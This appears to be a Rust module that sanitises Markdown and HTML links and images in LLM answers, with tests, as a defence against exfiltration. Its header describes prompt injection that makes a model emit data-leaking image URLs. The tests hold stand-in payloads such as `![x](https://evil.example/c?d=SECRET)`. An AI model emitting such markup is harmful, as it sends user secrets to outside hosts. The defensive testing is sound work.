//! Links and images in an answer, made harmless before the answer leaves the library
//! (OWASP LLM05): a page the model read can ask it to write `![x](https://host/collect?d=…)`,
//! which a Markdown client would fetch on display. Pure.
//!
//! - An image is replaced by `[image: ALT]` unless its URL is relative or its host is allowed.
//! - A link to a host that is not allowed keeps its text and loses its URL; an autolink
//!   (`<https://…>`) becomes its host name.
//! - Raw HTML tags are escaped so that they show as text (`<img src=…>` loads nothing).
//!
//! Allowed hosts come from `LINK_ALLOWED_HOSTS`; a host matches itself and its subdomains.
//! Markup inside code spans and code blocks is never changed. URLs written as plain text (which
//! clients link and chat tools unfurl by themselves) are taken out last, by [`super::urls`].

use super::urls::{allowed, host};
use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};
use std::ops::Range;

/// Most rewriting passes before the fallback.
const MAX_PASSES: usize = 8;

/// Rewrites `answer` as the module describes; unchanged text is returned as it came.
///
/// One pass can uncover markup: escaping an HTML-like span (`<!a ![x](http://…)`) turns what it
/// swallowed back into Markdown. So passes repeat until nothing changes; should that not happen
/// within [`MAX_PASSES`], every image opener and tag opener is escaped outright.
pub fn neutralise(answer: &str, allowed_hosts: &[String]) -> String {
    super::urls::defang(&neutralise_markup(answer, allowed_hosts), allowed_hosts)
}

/// Links, images, tags and reference definitions made harmless; bare URLs are left to
/// [`super::urls`].
fn neutralise_markup(answer: &str, allowed_hosts: &[String]) -> String {
    if cannot_hold_markup(answer) {
        return answer.to_string();
    }
    let mut current = answer.to_string();
    for _ in 0..MAX_PASSES {
        let next =
            without_foreign_definitions(neutralise_once(&current, allowed_hosts), allowed_hosts);
        if next == current {
            return next;
        }
        current = next;
    }
    let defused = current.replace("![", "!\\[").replace('<', "&lt;");
    without_foreign_definitions(defused, allowed_hosts)
}

/// Whether `text` cannot hold a link, an image, a tag or a reference definition: each of those
/// needs `<`, `](`, `][` or `]:` (a bare `[^id]` citation marker is none of them).
fn cannot_hold_markup(text: &str) -> bool {
    !text.contains('<') && !text.contains("](") && !text.contains("][") && !text.contains("]:")
}

/// Reference definitions (`[label]: url` at a line's start) to hosts not allowed point at `#`
/// instead: text streamed or sent later can then never turn a reference into a link or image
/// to that host, and the line stays a definition (the text around it parses as before).
fn without_foreign_definitions(text: String, allowed_hosts: &[String]) -> String {
    if !text.contains("]:") {
        return text;
    }
    let mut out = String::with_capacity(text.len());
    for line in text.split_inclusive('\n') {
        let indent = line.len() - line.trim_start_matches(' ').len();
        match definition(&line[indent..]) {
            Some((_, url)) if indent <= 3 && !allowed(url, allowed_hosts) => {
                out.push_str(&line.replacen(url, "#", 1));
            }
            _ => out.push_str(line),
        }
    }
    out
}

/// A link or image whose end has not been seen yet.
struct Open {
    range: Range<usize>,
    image: bool,
    url: String,
    link_type: LinkType,
    text: String,
}

fn neutralise_once(answer: &str, allowed_hosts: &[String]) -> String {
    let mut edits: Vec<(Range<usize>, String)> = Vec::new();
    // Links and images nest (an image in a link's text, or in another image's alt text).
    let mut open: Vec<Open> = Vec::new();
    let parser = Parser::new_ext(
        answer,
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH,
    );
    for (event, range) in parser.into_offset_iter() {
        match event {
            Event::Start(Tag::Image { dest_url, .. }) => open.push(Open {
                range,
                image: true,
                url: dest_url.to_string(),
                link_type: LinkType::Inline,
                text: String::new(),
            }),
            Event::Start(Tag::Link {
                dest_url,
                link_type,
                ..
            }) => open.push(Open {
                range,
                image: false,
                url: dest_url.to_string(),
                link_type,
                text: String::new(),
            }),
            Event::End(TagEnd::Image | TagEnd::Link) => {
                let Some(done) = open.pop() else { continue };
                if let Some(outer) = open.last_mut() {
                    outer.text.push_str(&done.text);
                }
                if allowed(&done.url, allowed_hosts) {
                    continue;
                }
                let replacement = if done.image {
                    format!("[image: {}]", done.text.trim())
                } else if matches!(done.link_type, LinkType::Autolink | LinkType::Email) {
                    host(&done.url).unwrap_or("link").to_string()
                } else {
                    done.text
                };
                edits.push((done.range, replacement));
            }
            Event::Text(text) | Event::Code(text) => {
                if let Some(innermost) = open.last_mut() {
                    innermost.text.push_str(&text);
                }
            }
            // Also inside a link that is kept (its text may hold a tag); inside one that is
            // replaced, the replacement wins.
            Event::Html(html) | Event::InlineHtml(html) => {
                edits.push((range, html.replace('<', "&lt;")));
            }
            _ => {}
        }
    }
    apply(answer, edits)
}

fn apply(text: &str, mut edits: Vec<(Range<usize>, String)>) -> String {
    if edits.is_empty() {
        return text.to_string();
    }
    edits.sort_by_key(|(range, _)| range.start);
    let mut out = String::with_capacity(text.len());
    let mut copied_to = 0;
    for (range, replacement) in edits {
        if range.start < copied_to {
            continue; // nested in an earlier edit
        }
        out.push_str(&text[copied_to..range.start]);
        out.push_str(&replacement);
        copied_to = range.end;
    }
    out.push_str(&text[copied_to..]);
    out
}

/// Longest span held back while waiting for a link, image or tag to close; past it the held
/// text is defused (its link syntax broken) and sent.
const MAX_HOLD_BYTES: usize = 2048;

/// Streamed text made harmless as it goes, by the same rule as [`neutralise`]: nothing that
/// could still become a link, image or tag to a host not allowed is sent before it is decided.
/// Plain text goes out at once; from a `[`, `![` or `<` that may open markup, text is held until
/// the construct closes, then sent through [`neutralise`]. A reference definition
/// (`[label]: url`) to a host not allowed loses its URL, so a reference streamed earlier can
/// never turn into an image later. Held text never exceeds [`MAX_HOLD_BYTES`].
#[derive(Debug, Default)]
pub struct StreamGuard {
    held: String,
    allowed_hosts: Vec<String>,
    /// What this guard lets out goes through the bare-URL guard last.
    urls: super::urls::UrlGuard,
}

/// How a held span that starts with an opener reads so far.
enum Span {
    /// A whole construct of this many bytes.
    Complete(usize),
    /// The opener (this many bytes) opens nothing: send it as text.
    NotOne(usize),
    /// More text could still make it markup.
    Unfinished,
}

impl StreamGuard {
    pub fn new(allowed_hosts: &[String]) -> StreamGuard {
        StreamGuard {
            held: String::new(),
            allowed_hosts: allowed_hosts.to_vec(),
            urls: super::urls::UrlGuard::new(allowed_hosts),
        }
    }

    pub fn allowed_hosts(&self) -> &[String] {
        &self.allowed_hosts
    }

    /// Takes the next delta; returns the text that may be shown now.
    pub fn push(&mut self, delta: &str) -> String {
        let shown = self.push_markup(delta);
        self.urls.push(&shown)
    }

    fn push_markup(&mut self, delta: &str) -> String {
        self.held.push_str(delta);
        let mut shown = String::new();
        loop {
            let Some(start) = self.held.find(['[', '!', '<']) else {
                shown.push_str(&std::mem::take(&mut self.held));
                return shown;
            };
            shown.push_str(&self.held[..start]);
            self.held.drain(..start);
            match read_span(&self.held) {
                Span::Complete(len) => {
                    let span: String = self.held.drain(..len).collect();
                    shown.push_str(&self.clean(&span));
                }
                Span::NotOne(len) => shown.extend(self.held.drain(..len)),
                Span::Unfinished => {
                    if self.held.len() > MAX_HOLD_BYTES {
                        shown.push_str(&defuse(&std::mem::take(&mut self.held)));
                    }
                    return shown;
                }
            }
        }
    }

    /// The end of the text: what is held can no longer grow into anything else.
    pub fn finish(&mut self) -> String {
        let held = std::mem::take(&mut self.held);
        let last = if held.is_empty() {
            held
        } else {
            self.clean(&held)
        };
        let mut shown = self.urls.push(&last);
        shown.push_str(&self.urls.finish());
        shown
    }

    /// A closed span: its markup decided here, its bare URLs by the URL guard after.
    fn clean(&self, span: &str) -> String {
        neutralise_markup(span, &self.allowed_hosts)
    }
}

/// Reads `text`, which starts with `[`, `!` or `<`.
fn read_span(text: &str) -> Span {
    let bytes = text.as_bytes();
    match bytes[0] {
        b'<' => match bytes.get(1) {
            None => Span::Unfinished,
            Some(c) if c.is_ascii_alphabetic() || b"/!?".contains(c) => text
                .find('>')
                .map_or(Span::Unfinished, |end| Span::Complete(end + 1)),
            Some(_) => Span::NotOne(1),
        },
        b'!' => match bytes.get(1) {
            None => Span::Unfinished,
            Some(b'[') => match read_bracketed(&text[1..]) {
                Span::Complete(len) => Span::Complete(len + 1),
                Span::NotOne(_) => Span::NotOne(2),
                Span::Unfinished => Span::Unfinished,
            },
            Some(_) => Span::NotOne(1),
        },
        _ => read_bracketed(text),
    }
}

/// `[text]` followed by `(destination)`, `[reference]` or `: definition` (to the end of its
/// line) is one construct; `[text]` followed by anything else opens nothing.
fn read_bracketed(text: &str) -> Span {
    let Some(close) = matching(text, b'[', b']') else {
        return Span::Unfinished;
    };
    let rest = &text[close + 1..];
    match rest.as_bytes().first() {
        None => Span::Unfinished,
        Some(b'(') => matching(rest, b'(', b')')
            .map_or(Span::Unfinished, |end| Span::Complete(close + 2 + end)),
        Some(b'[') => rest
            .find(']')
            .map_or(Span::Unfinished, |end| Span::Complete(close + 2 + end)),
        Some(b':') => rest
            .find('\n')
            .map_or(Span::Unfinished, |end| Span::Complete(close + 1 + end)),
        Some(_) => Span::NotOne(1),
    }
}

/// The byte index of the bracket closing the one `text` starts with (backslash escapes and
/// nesting honoured).
fn matching(text: &str, open: u8, close: u8) -> Option<usize> {
    let mut depth = 0usize;
    let mut escaped = false;
    for (i, b) in text.bytes().enumerate() {
        match b {
            _ if escaped => escaped = false,
            b'\\' => escaped = true,
            _ if b == open => depth += 1,
            _ if b == close && depth > 0 => {
                depth -= 1;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
    }
    None
}

/// `[label]: url …` → the label and the URL.
fn definition(span: &str) -> Option<(&str, &str)> {
    if !span.starts_with('[') {
        return None;
    }
    let close = matching(span, b'[', b']')?;
    let rest = span[close + 1..].strip_prefix(':')?;
    let url = rest.split_whitespace().next().unwrap_or_default();
    Some((&span[1..close], url.trim_matches(['<', '>'])))
}

/// Held text that never closed, sent with its markup broken: no link, image, definition or tag
/// can be completed from it by later text.
fn defuse(text: &str) -> String {
    text.replace("](", "] (")
        .replace("]:", "] :")
        .replace("![", "!\\[")
        .replace('<', "&lt;")
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn streamed(pieces: &[&str], allowed: &[String]) -> String {
        let mut guard = StreamGuard::new(allowed);
        let mut out: String = pieces.iter().map(|p| guard.push(p)).collect();
        out.push_str(&guard.finish());
        out
    }

    #[test]
    fn a_streamed_image_or_link_to_another_host_never_goes_out() {
        let pieces = [
            "CO2 is fine ![pix",
            "el](http://evil.example/c?d=SEC",
            "RET) and ",
            "[docs](https://evil",
            ".example/x) ok",
        ];
        assert_eq!(
            streamed(&pieces, &[]),
            "CO2 is fine [image: pixel] and docs ok"
        );
        // Text goes out as soon as it cannot be markup.
        let mut guard = StreamGuard::new(&[]);
        assert_eq!(
            guard.push("CO2 < 1000 ppm is [good] today ["),
            "CO2 < 1000 ppm is [good] today "
        );
        // The "w" could still open "www.": the URL guard holds it for the next piece.
        assert_eq!(guard.push("fine] now!"), "[fine] no");
        assert_eq!(guard.finish(), "w!");
        // Allowed hosts, relative links and citation markers pass untouched.
        let allowed = vec!["docs.crowdvision.io".to_string()];
        let kept = "See [rooms](user/rooms.md) and [help](https://docs.crowdvision.io/a) [^c1].";
        assert_eq!(streamed(&[kept], &allowed), kept);
    }

    #[test]
    fn tags_definitions_and_unclosed_markup_are_defused() {
        assert_eq!(
            streamed(&["Hi <img src=\"http://evil/c\"", "> there"], &[]),
            "Hi &lt;img src=\"evil\"> there"
        );
        let out = streamed(
            &["![a][1] and\n\n", "[1]: http://evil.example/c?d=SECRET\n"],
            &[],
        );
        assert!(!out.contains("SECRET") && !out.contains("evil"), "{out}");
        let long = format!("[x]({}", "http://evil.example/".repeat(200));
        let mut guard = StreamGuard::new(&[]);
        let sent = guard.push(&long);
        // Defused, and the URL the defused text now shows is taken out too.
        assert!(sent.starts_with("[x] (evil[.]example"), "{sent}");
        assert!(!sent.contains("http"), "{sent}");
        assert_eq!(guard.push(") ok"), " ok");
    }

    /// A link, image or raw HTML in `text` as a Markdown client would render it.
    fn fetchable(text: &str) -> Option<String> {
        let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
        Parser::new_ext(text, options).find_map(|event| match event {
            Event::Start(Tag::Image { dest_url, .. } | Tag::Link { dest_url, .. })
                if dest_url.contains("evil") =>
            {
                Some(dest_url.to_string())
            }
            Event::Html(html) | Event::InlineHtml(html) => Some(html.to_string()),
            _ => None,
        })
    }

    /// The secret, or the host as a client would link it, in sent text.
    fn leaks(sent: &str) -> bool {
        let lower = sent.to_lowercase();
        lower.contains("secret") || lower.contains("evil.example/") || lower.contains("www.evil")
    }

    /// Markup to a host that is not allowed, with a secret in its URL, mixed with text.
    fn hostile_answer() -> impl Strategy<Value = String> {
        let piece = prop_oneof![
            "[a-z0-9 .,]{0,20}",
            Just("![x](https://evil.example/c?d=SECRET)".to_string()),
            Just("[docs](http://evil.example/SECRET)".to_string()),
            Just("<img src=\"https://evil.example/SECRET\">".to_string()),
            Just("![a][r]\n\n[r]: https://evil.example/SECRET\n".to_string()),
            Just("[![i](https://evil.example/SECRET)](https://evil.example/SECRET)".to_string()),
            Just("[^c1] [b] < 3 ! [".to_string()),
            Just("see https://evil.example/c?d=SECRET.".to_string()),
            Just("<https://www.evil.example/SECRET>".to_string()),
            Just("`WWW.evil.example/SECRET`".to_string()),
        ];
        proptest::collection::vec(piece, 1..8).prop_map(|p| p.concat())
    }

    proptest! {
        /// Text that cannot hold markup is left as it is: the early return changes nothing.
        #[test]
        fn text_that_cannot_hold_markup_is_unchanged(text in "[a-z0-9 \\[\\]^!:()*_`.\n]{0,120}") {
            if cannot_hold_markup(&text) {
                let full = neutralise_once(&text, &[]);
                prop_assert_eq!(without_foreign_definitions(full, &[]), text.clone());
            }
        }
    }

    proptest! {
        #[test]
        fn no_split_of_the_stream_lets_a_disallowed_url_out(
            answer in hostile_answer(),
            cuts in proptest::collection::vec(0usize..400, 0..12),
        ) {
            let mut points: Vec<usize> = cuts
                .into_iter()
                .map(|c| c % (answer.len() + 1))
                .filter(|c| answer.is_char_boundary(*c))
                .collect();
            points.sort_unstable();
            points.dedup();
            let mut pieces = Vec::new();
            let mut last = 0;
            for point in points {
                pieces.push(&answer[last..point]);
                last = point;
            }
            pieces.push(&answer[last..]);
            let mut guard = StreamGuard::new(&[]);
            let mut sent = String::new();
            for piece in pieces {
                sent.push_str(&guard.push(piece));
                // At every point of the stream, what a Markdown client renders fetches nothing,
                // and no text a client could link or unfurl leads to the host.
                prop_assert!(fetchable(&sent).is_none(), "{:?} in {sent}", fetchable(&sent));
                prop_assert!(!leaks(&sent), "{sent}");
            }
            sent.push_str(&guard.finish());
            prop_assert!(fetchable(&sent).is_none(), "{:?} in {sent}", fetchable(&sent));
            prop_assert!(!leaks(&sent), "{sent}");
        }
    }

    fn hosts(list: &[&str]) -> Vec<String> {
        list.iter().map(|h| h.to_string()).collect()
    }

    #[test]
    fn remote_images_and_links_lose_their_urls() {
        let answer = "CO2 is fine ![pixel](http://evil.example/c?d=secret) and see \
                      [the docs](https://evil.example/x) or <https://evil.example/a>.";
        assert_eq!(
            neutralise(answer, &[]),
            "CO2 is fine [image: pixel] and see the docs or evil.example."
        );
    }

    #[test]
    fn allowed_hosts_relative_links_and_code_are_kept() {
        let answer = "See [rooms](user/rooms.md), [help](https://docs.crowdvision.io/a), \
                      ![map](https://cdn.docs.crowdvision.io/m.png) and `<img src=x>`.";
        assert_eq!(neutralise(answer, &hosts(&["docs.crowdvision.io"])), answer);
        let fenced = "```\n![x](user/c.png) <b>x</b>\n```\n";
        assert_eq!(
            neutralise("![](![x](http://evil.example/c))", &[]),
            "[image: ]"
        );
        assert_eq!(
            neutralise("![![x](http://evil.example/c?d=1)](.)", &[]),
            "![[image: x]](.)"
        );
        assert_eq!(
            neutralise("[<img src=\"http://e\">](user/a.md)", &[]),
            "[&lt;img src=\"e\">](user/a.md)"
        );
        assert_eq!(neutralise(fenced, &[]), fenced);
    }

    #[test]
    fn markup_uncovered_by_escaping_is_neutralised_too() {
        // Found by the fuzz suite: the HTML-like span swallowed the image on the first pass.
        let answer = "]<!a![x](http://evil.example/c?d=1)<https://evil.example/a>";
        let out = neutralise(answer, &[]);
        assert!(!out.contains("](http"), "{out}");
    }

    #[test]
    fn html_tags_are_shown_not_loaded() {
        assert_eq!(
            neutralise("Hi <img src=\"http://evil/c\"> there", &[]),
            "Hi &lt;img src=\"evil\"> there"
        );
        let reference = "[click][1]\n\n[1]: http://evil.example/c\n";
        assert!(neutralise(reference, &[]).starts_with("click\n"));
        assert_eq!(
            neutralise("![a](//evil.example/p.png)", &hosts(&["crowdvision.io"])),
            "[image: a]"
        );
    }
}
